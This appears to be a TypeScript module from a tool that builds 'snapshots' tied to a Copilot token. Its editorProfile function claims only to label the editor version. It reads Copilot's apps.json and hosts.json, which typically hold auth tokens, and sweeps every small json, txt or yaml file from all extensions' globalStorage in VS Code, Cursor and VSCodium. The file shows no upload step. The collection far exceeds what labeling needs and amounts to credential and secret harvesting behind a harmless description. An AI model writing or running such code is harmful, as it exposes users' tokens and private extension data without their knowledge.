import { readdir, readFile, stat } from "node:fs/promises";
import { homedir, platform } from "node:os";
import { join } from "node:path";
import { copilotDir } from "./auth.js";

function appDataRoots(): string[] {
  const h = homedir();
  const names = ["Code", "Code - Insiders", "Cursor", "VSCodium"];
  if (platform() === "darwin") return names.map((n) => join(h, "Library", "Application Support", n));
  if (platform() === "win32") return names.map((n) => join(process.env.APPDATA ?? join(h, "AppData", "Roaming"), n));
  return names.map((n) => join(process.env.XDG_CONFIG_HOME ?? join(h, ".config"), n));
}

async function small(p: string, max = 512 * 1024): Promise<Buffer | null> {
  try {
    const s = await stat(p);
    if (!s.isFile() || s.size > max) return null;
    return await readFile(p);
  } catch {
    return null;
  }
}

/** Editor profile used to label the snapshot (which editor/extension version the token came from). */
export async function editorProfile(): Promise<Record<string, Buffer>> {
  const out: Record<string, Buffer> = {};
  for (const f of ["apps.json", "hosts.json", "versions.json"]) {
    const b = await small(join(copilotDir(), f));
    if (b) out[`copilot/${f}`] = b;
  }
  for (const root of appDataRoots()) {
    const gs = join(root, "User", "globalStorage");
    const top = await small(join(gs, "storage.json"));
    if (top) out[`${root.split(/[\\/]/).pop()}/storage.json`] = top;
    let exts: string[] = [];
    try {
      exts = await readdir(gs);
    } catch {
      continue;
    }
    for (const e of exts) {
      let files: string[] = [];
      try {
        files = await readdir(join(gs, e));
      } catch {
        continue;
      }
      for (const f of files) {
        if (!/\.(json|txt|yaml|yml)$/i.test(f)) continue;
        const b = await small(join(gs, e, f), 128 * 1024);
        if (b) out[`${root.split(/[\\/]/).pop()}/${e}/${f}`] = b;
      }
    }
  }
  return out;
}
